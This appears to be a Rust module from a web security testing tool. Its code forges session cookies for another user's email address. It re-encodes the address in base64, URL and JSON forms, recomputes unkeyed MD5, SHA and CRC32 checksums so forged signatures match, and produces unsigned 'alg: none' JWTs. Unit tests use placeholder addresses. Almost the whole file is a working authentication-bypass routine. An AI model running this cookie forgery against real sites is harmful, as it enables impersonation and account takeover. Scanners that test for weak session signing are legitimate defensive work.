//! Values that somebody else's session cookie would have, if it could be worked out from what everybody
//! knows: their address, in the coding and with the checksum of one's own cookie.

use data_encoding::{
    BASE64, BASE64_NOPAD, BASE64URL, BASE64URL_NOPAD, Encoding, HEXLOWER, HEXUPPER,
};
use md5::Md5;
use sha1::Sha1;
use sha2::{Digest, Sha256, Sha384, Sha512};

const BASES: [&Encoding; 4] = [&BASE64, &BASE64URL, &BASE64_NOPAD, &BASE64URL_NOPAD];
type Digester = fn(&[u8]) -> Vec<u8>;

/// Digests without a key. Whoever knows what goes in knows what comes out.
const DIGESTS: [Digester; 6] = [
    |bytes| Md5::digest(bytes).to_vec(),
    |bytes| Sha1::digest(bytes).to_vec(),
    |bytes| Sha256::digest(bytes).to_vec(),
    |bytes| Sha384::digest(bytes).to_vec(),
    |bytes| Sha512::digest(bytes).to_vec(),
    |bytes| crc32(bytes).to_be_bytes().to_vec(),
];
/// Between a value, its time and its signature: header.payload.signature, value--digest, value|digest.
const SEPARATORS: [&str; 8] = [".", "--", "|", ":", "~", "$", ",", "-"];
/// A digest is often cut; what is left has to be too long to be there by chance.
const LEAST_DIGEST: usize = 8;

/// A cookie's value with another address in it, in each coding in which the one is found, and with
/// checksums that need no key made anew.
pub(super) fn forgeries(value: &str, email: &str, other: &str) -> Vec<String> {
    let mut forged = Vec::new();
    let swap = Swap::new(email, other);
    forged.extend(swap.text(value));
    let percent = percent_decoded(value);
    if percent != value {
        let encode = |text: String| -> String {
            url::form_urlencoded::byte_serialize(text.as_bytes())
                .collect::<String>()
                .replace('+', "%20")
        };
        forged.extend(swap.text(&percent).map(encode));
    }
    let bare = percent.trim_matches('"');
    forged.extend(swap.encoded(bare));
    let splits = SEPARATORS.iter().flat_map(|separator| {
        let all: Vec<&str> = bare.split(separator).collect();
        // Addresses have full stops of their own.
        let last = bare.rsplit_once(separator);
        let last = last.map(|(before, after)| vec![before, after]);
        let both = [Some(all), last];
        both.into_iter()
            .flatten()
            .map(move |parts| (*separator, parts))
    });
    for (separator, parts) in splits {
        for (at, part) in parts.iter().enumerate().filter(|_| parts.len() > 1) {
            let Some(swapped) = swap.encoded(part).or_else(|| swap.text(part)) else {
                continue;
            };
            let mut changed: Vec<String> = parts.iter().map(|part| (*part).to_owned()).collect();
            changed[at] = swapped;
            forged.push(changed.join(separator));
            if let Some(resigned) = resigned(&parts, &changed, separator) {
                // The likeliest by far: its checksum fits.
                forged.insert(0, resigned);
            }
            // A token that says of itself that it is not signed.
            if separator == "." && parts.len() == 3 && at == 1 {
                let header = BASE64URL_NOPAD.encode(br#"{"alg":"none","typ":"JWT"}"#);
                forged.push(format!("{header}.{}.", changed[1]));
            }
        }
    }
    let mut seen = std::collections::BTreeSet::new();
    forged.retain(|forgery| seen.insert(forgery.clone()));
    forged
}

/// What is replaced by what: the address, and its digests.
struct Swap(Vec<(String, String)>);

impl Swap {
    fn new(email: &str, other: &str) -> Self {
        let mut pairs = vec![(email.to_owned(), other.to_owned())];
        for digest in DIGESTS {
            let written = |text: &str| spellings(&digest(text.as_bytes()));
            pairs.extend(written(email).into_iter().zip(written(other)));
        }
        Self(pairs)
    }

    fn text(&self, text: &str) -> Option<String> {
        let mut swapped = text.to_owned();
        for (from, to) in self.0.iter().filter(|(from, _)| from.len() >= LEAST_DIGEST) {
            swapped = swapped.replace(from, to);
        }
        (swapped != text).then_some(swapped)
    }

    fn encoded(&self, text: &str) -> Option<String> {
        BASES.iter().find_map(|base| {
            let decoded = String::from_utf8(base.decode(text.as_bytes()).ok()?).ok()?;
            Some(base.encode(self.text(&decoded)?.as_bytes()))
        })
    }
}

/// A value whose last part was a digest of those before it, with that of the changed ones.
fn resigned(parts: &[&str], changed: &[String], separator: &str) -> Option<String> {
    let (signature, signed) = parts.split_last()?;
    let (_, to_sign) = changed.split_last()?;
    if signature.len() < LEAST_DIGEST {
        return None;
    }
    let inputs = |parts: &[String]| {
        let decoded = |base: &&Encoding| base.decode(parts.first()?.as_bytes()).ok();
        let mut inputs = vec![
            parts.join(separator).into_bytes(),
            parts.concat().into_bytes(),
        ];
        inputs.extend(BASES.iter().find_map(decoded));
        inputs
    };
    let signed: Vec<String> = signed.iter().map(|part| (*part).to_owned()).collect();
    let pairs = inputs(&signed).into_iter().zip(inputs(to_sign));
    for (before, after) in pairs {
        for digest in DIGESTS {
            let (old, new) = (spellings(&digest(&before)), spellings(&digest(&after)));
            let fitting = old.iter().position(|old| old.starts_with(signature));
            if let Some(new) = fitting.and_then(|at| new.get(at)?.get(..signature.len())) {
                return Some(format!("{}{separator}{new}", to_sign.join(separator)));
            }
        }
    }
    None
}

/// The ways in which a digest is written.
fn spellings(digest: &[u8]) -> Vec<String> {
    let mut all = vec![HEXLOWER.encode(digest), HEXUPPER.encode(digest)];
    all.extend(BASES.iter().map(|base| base.encode(digest)));
    if let Ok(bytes) = <[u8; 4]>::try_from(digest) {
        all.push(u32::from_be_bytes(bytes).to_string());
    }
    all
}

/// The checksum of zip files (IEEE 802.3), which PHP and Python have at hand.
fn crc32(bytes: &[u8]) -> u32 {
    let mut sum = u32::MAX;
    for byte in bytes {
        sum ^= u32::from(*byte);
        for _ in 0..8 {
            let is_odd = sum & 1 == 1;
            sum >>= 1;
            if is_odd {
                sum ^= 0xedb8_8320;
            }
        }
    }
    !sum
}

fn percent_decoded(text: &str) -> String {
    let escaped = text
        .replace('+', "%2B")
        .replace('&', "%26")
        .replace('=', "%3D");
    let mut pairs = url::form_urlencoded::parse(escaped.as_bytes());
    pairs
        .next()
        .map(|(name, _)| name.into_owned())
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    const ADA: &str = "ada.x0@example.com";
    const EVE: &str = "eve.x0@example.com";

    fn hex(digest: fn(&[u8]) -> Vec<u8>, text: &str) -> String {
        HEXLOWER.encode(&digest(text.as_bytes()))
    }

    #[test]
    fn a_cookie_is_forged_in_the_coding_that_it_came_in() {
        let [md5, sha1, sha256, _, _, crc] = DIGESTS;
        let of = |who: &str| {
            let json = format!(r#"{{"email":"{who}"}}"#);
            let base64 = BASE64URL_NOPAD.encode(json.as_bytes());
            let signed = format!(r#"{{"u":"{who}","s":"{}"}}"#, hex(sha1, who));
            vec![
                who.to_owned(),
                who.replace('@', "%40"),
                BASE64.encode(json.as_bytes()),
                format!("{base64}.c2ln"),
                format!("{who}|9f"),
                // Checksums that anybody can make.
                hex(md5, who),
                format!("{who}|{}", hex(sha256, who)),
                format!("{who}.{}", &hex(sha256, who)[..12]),
                format!("{base64}.{}", hex(crc, &base64)),
                format!("{base64}--{}", hex(sha1, &json)),
                format!("{base64}.{}", BASE64.encode(&sha256(base64.as_bytes()))),
                BASE64.encode(signed.as_bytes()),
            ]
        };
        for (value, expected) in of(ADA).into_iter().zip(of(EVE)) {
            let forged = forgeries(&value, ADA, EVE);
            assert!(forged.contains(&expected), "{value}: {forged:?}");
        }
        assert_eq!(forgeries("9f3c1b", ADA, EVE), Vec::<String>::new());
    }

    #[test]
    fn a_token_is_tried_without_a_signature_as_well() {
        let payload = BASE64URL_NOPAD.encode(format!(r#"{{"sub":"{ADA}"}}"#).as_bytes());
        let forged = forgeries(&format!("e30.{payload}.c2ln"), ADA, EVE);
        assert!(
            forged.iter().any(|value| value.ends_with('.')),
            "{forged:?}"
        );
    }

    #[test]
    fn the_checksum_is_that_of_zip_files() {
        assert_eq!(crc32(b"123456789"), 0xcbf4_3926);
    }
}
